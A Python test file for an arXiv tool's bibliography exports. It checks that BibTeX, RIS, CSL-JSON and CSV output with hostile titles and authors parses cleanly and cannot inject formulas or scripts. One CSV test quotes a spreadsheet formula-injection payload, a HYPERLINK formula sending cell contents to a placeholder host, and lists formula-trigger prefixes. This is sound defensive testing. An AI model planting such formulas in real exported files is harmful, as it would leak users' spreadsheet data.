"""Bibliographies read by others' parsers: each paper once, whatever its title and authors hold."""

import csv
import json
import shutil
import subprocess
from collections.abc import Sequence
from dataclasses import replace
from io import StringIO
from pathlib import Path
from typing import Any

import pytest
import rispy
from hypothesis import given, settings
from hypothesis import strategies as st
from pybtex.database import parse_string

from arxivtui.domain import Paper, PaperRecord
from arxivtui.formats import ForeignFileError, form_of, over_export, read_references, write_document
from tests.formats.hostile_texts import TEXTS
from tests.formats.nasty_papers import FORMS, GOLDEN, IDS, PAPERS, record, written

needs_pandoc = pytest.mark.skipif(shutil.which("pandoc") is None, reason="pandoc is not installed")


def pandoc(*arguments: str, text: str) -> str:
    """What Pandoc makes of a text; a warning is an error."""
    done = subprocess.run(
        ["pandoc", "--fail-if-warnings", *arguments], input=text, capture_output=True, text=True, check=False
    )
    assert (done.returncode, done.stderr) == (0, "")
    return done.stdout


@pytest.mark.parametrize("ending", FORMS)
def test_the_golden_files_are_what_is_written(ending: str) -> None:
    golden = (GOLDEN / f"nasty.{ending}").read_bytes()
    assert written(ending).encode() == golden


@pytest.mark.parametrize("ending", ["bib", "ris", "json"])
def test_our_own_import_finds_every_paper(ending: str) -> None:
    found = read_references(written(ending).encode(), f"nasty.{ending}")
    assert [entry.arxiv_id for entry in found.entries] == IDS


def test_pybtex_reads_the_bibtex() -> None:
    found = parse_string(written("bib"), "bibtex")
    assert [entry.fields["eprint"] for entry in found.entries.values()] == IDS
    people = [entry.persons.get("author", []) for entry in found.entries.values()]
    assert [len(each) for each in people] == [len(paper.authors) + paper.authors_cut for paper in PAPERS]
    soren, guy = people[0][2:]
    assert (soren.first_names, soren.prelast_names, soren.last_names) == (
        [r"S{\o}ren"],
        ["van", "der"],
        ["Muster"],
    )
    assert guy.last_names == ["{Van den Voorbeeld}"]
    assert people[1][1].lineage_names == ["Jr."]
    assert people[2][0].last_names == ["{The ATLAS Collaboration}"]
    assert people[7][-1].last_names == ["others"]


def test_rispy_reads_the_ris() -> None:
    found = rispy.loads(written("ris"))
    assert [entry["accession_number"] for entry in found] == [f"arXiv:{each}" for each in IDS]
    counts = [len(entry.get("authors", [])) for entry in found]
    assert counts == [len(paper.authors) + paper.authors_cut for paper in PAPERS]
    assert found[2]["type_of_reference"] == "JOUR"
    assert (found[2]["secondary_title"], found[2]["volume"]) == ("Adv. Theor. Math. Phys.", "2")
    assert (found[2]["start_page"], found[2]["end_page"]) == ("231", "252")
    assert found[0]["authors"][2] == "van der Muster, Søren"


def test_citeproc_sets_the_csl_json_in_a_style() -> None:
    shown = rendered(written("json"))
    assert len(shown) == len(PAPERS)
    assert shown[0].startswith("Example, A. et al. (2025) “Sparse gates in O(n²)")
    assert "Adv. Theor. Math. Phys." in shown[2]
    assert "ATLAS Collaboration" in shown[2]


def rendered(text: str) -> list[str]:
    """A bibliography in the style that comes with citeproc-py."""
    from citeproc import formatter
    from citeproc.frontend import CitationStylesBibliography, CitationStylesStyle
    from citeproc.source import Citation, CitationItem
    from citeproc.source.json import CiteProcJSON

    source = CiteProcJSON(json.loads(text))
    style = CitationStylesStyle("harvard-cite-them-right", validate=False)
    bibliography = CitationStylesBibliography(style, source, formatter.plain)
    for key in source:
        bibliography.register(Citation([CitationItem(key)]))
    return [str(entry) for entry in bibliography.bibliography()]


def test_python_reads_the_table() -> None:
    rows = list(csv.DictReader(StringIO(written("csv"))))
    assert [row["id"] for row in rows] == IDS
    assert rows[0]["title"] == "Sparse gates in O(n²): why BERT-like models and Bézout's theorem agree"
    assert rows[0]["tags"] == "moe to-read"
    assert rows[7]["authors"] == "A. Cut; others"


def test_no_cell_of_the_table_is_a_formula() -> None:
    rows = list(csv.reader(StringIO(written("csv"))))
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.lstrip().startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert '\'=HYPERLINK("http://a.example/?"&A1;"click");\'@SUM(1+1)' in cells
    assert all(
        line.startswith('"') for line in written("csv").splitlines() if "note" not in line and line[0] != "'"
    )


@needs_pandoc
def test_pandoc_reads_the_bibtex_without_a_warning() -> None:
    found = json.loads(pandoc("-f", "bibtex", "-t", "csljson", text=written("bib")))
    assert [entry["URL"].partition("/abs/")[2] for entry in found] == IDS
    counts = [len(entry.get("author", [])) for entry in found]
    assert counts == [len(paper.authors) + paper.authors_cut for paper in PAPERS]
    assert found[0]["title"].endswith("Why BERT-like models and Bézout’s theorem agree")
    page = pandoc("-f", "bibtex", "-t", "html", "--citeproc", text=written("bib"))
    assert page.count('class="csl-entry"') == len(PAPERS)
    assert "<script" not in page


@needs_pandoc
def test_pandoc_sets_the_csl_json_without_a_warning() -> None:
    page = pandoc("-f", "csljson", "-t", "html", "--citeproc", text=written("json"))
    assert page.count('class="csl-entry"') == len(PAPERS)
    assert "<script" not in page
    assert "Cut, A. et al." in page


@needs_pandoc
def test_pandoc_reads_the_ris_without_a_warning() -> None:
    if "ris" not in pandoc("--list-input-formats", text="").split():
        pytest.skip("this pandoc reads no RIS (it does from version 3 on)")
    found = json.loads(pandoc("-f", "ris", "-t", "csljson", text=written("ris")))
    assert len(found) == len(PAPERS)


def test_an_export_takes_the_place_of_none_of_another_form(tmp_path: Path) -> None:
    file = tmp_path / "papers"
    for there in FORMS:
        for new in FORMS:
            if there != new:
                file.write_text(written(there))
                with pytest.raises(ForeignFileError, match="an export of another form"):
                    write_document(file, written(new), only_over=over_export(file, form_of(written(new))))
                assert file.read_text() == written(there)


@pytest.mark.parametrize("ending", FORMS)
def test_an_export_is_written_over_and_a_file_of_the_readers_own_is_not(ending: str, tmp_path: Path) -> None:
    file = tmp_path / f"papers.{ending}"
    write_document(file, written(ending), only_over=over_export(file, form_of(written(ending))))
    write_document(file, FORMS[ending]([], title=""), only_over=over_export(file, form_of(written(ending))))
    write_document(file, written(ending), only_over=over_export(file, form_of(written(ending))))
    own = {
        "bib": "@misc{mine,\n title = {Mine}}\n",
        "ris": "TY  - UNPB\nTI  - Mine\nDP  - arxivtui\nER  - \n",
        "json": '[\n{"id":"mine","type":"article","source":"arXiv by arxivtui"}\n]\n',
        "csv": '"id","title"\n"1","arxivtui"\n',
    }[ending]
    file.write_text(own)
    with pytest.raises(ForeignFileError):
        write_document(file, written(ending), only_over=over_export(file, form_of(written(ending))))
    assert file.read_text() == own


def test_the_same_paper_is_called_the_same_in_every_form() -> None:
    keys = list(parse_string(written("bib"), "bibtex").entries)
    assert [entry["id"] for entry in json.loads(written("json"))] == keys
    assert [entry["id"] for entry in rispy.loads(written("ris"))] == keys


def test_a_paper_by_thousands_of_people_is_read_again() -> None:
    people = tuple(f"Ada N{number} Example" for number in range(5000))
    many = record(replace(PAPERS[0], authors=people))
    texts = {ending: write([many], title="") for ending, write in FORMS.items()}
    for ending in ("bib", "ris", "json"):
        (entry,) = read_references(texts[ending].encode(), "x").entries
        assert entry.arxiv_id == PAPERS[0].id
    (found,) = parse_string(texts["bib"], "bibtex").entries.values()
    assert len(found.persons["author"]) == 5000
    assert len(rispy.loads(texts["ris"])[0]["authors"]) == 5000
    assert len(json.loads(texts["json"])[0]["author"]) == 5000


def hostile_records(papers: Sequence[tuple[str, tuple[str, ...], str]]) -> list[PaperRecord]:
    return [
        record(Paper(f"2503.{at:05}", title, authors, title, ("cs.LG",), journal_ref=journal, doi=journal))
        for at, (title, authors, journal) in enumerate(papers, 1)
    ]


TEX = st.text("\\{}$%@#&_^~,\"'=-+ adnoAvü王;\t\n", max_size=30)
ANY = st.one_of(TEX, TEXTS)
HOSTILE = st.lists(
    st.tuples(ANY, st.lists(ANY, max_size=4).map(tuple), st.one_of(st.just(""), ANY)), min_size=1, max_size=3
)


@given(HOSTILE)
@settings(max_examples=200)
def test_whatever_they_hold_parsers_find_one_entry_a_paper(
    papers: list[tuple[str, tuple[str, ...], str]],
) -> None:
    made = hostile_records(papers)
    ids = [each.paper.id for each in made]
    named = [sum(any(map(str.isalnum, name)) for name in each.plain.authors) for each in made]
    texts = {ending: write(made, title="x") for ending, write in FORMS.items()}

    bibtex = parse_string(texts["bib"], "bibtex").entries.values()
    assert [entry.fields["eprint"] for entry in bibtex] == ids
    assert [len(entry.persons.get("author", [])) for entry in bibtex] == named
    ris = rispy.loads(texts["ris"])
    assert [entry["accession_number"] for entry in ris] == [f"arXiv:{each}" for each in ids]
    assert [len(entry.get("authors", [])) for entry in ris] == named
    items: list[Any] = json.loads(texts["json"])
    assert [item["number"] for item in items] == [f"arXiv:{each}" for each in ids]
    assert [len(item.get("author", [])) for item in items] == named
    table = list(csv.DictReader(StringIO(texts["csv"])))
    assert [row["id"] for row in table] == ids
    cells = [cell for row in table for cell in row.values()]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    for ending in ("bib", "ris", "json"):
        found = read_references(texts[ending].encode(), "x").entries
        assert [entry.arxiv_id for entry in found] == ids


@needs_pandoc
@given(
    st.lists(HOSTILE, min_size=8, max_size=16).map(lambda lists: [paper for each in lists for paper in each])
)
@settings(max_examples=8, derandomize=True)  # Pandoc is slow to start, and slower to shrink.
def test_whatever_they_hold_pandoc_reads_them_without_a_warning(
    papers: list[tuple[str, tuple[str, ...], str]],
) -> None:
    made = hostile_records(papers)
    ids = [each.paper.id for each in made]
    found = json.loads(pandoc("-f", "bibtex", "-t", "csljson", text=FORMS["bib"](made, title="x")))
    assert [entry["URL"].partition("/abs/")[2] for entry in found] == ids
    page = pandoc("-f", "csljson", "-t", "html", "--citeproc", text=FORMS["json"](made, title="x"))
    assert page.count('class="csl-entry"') == len(ids)
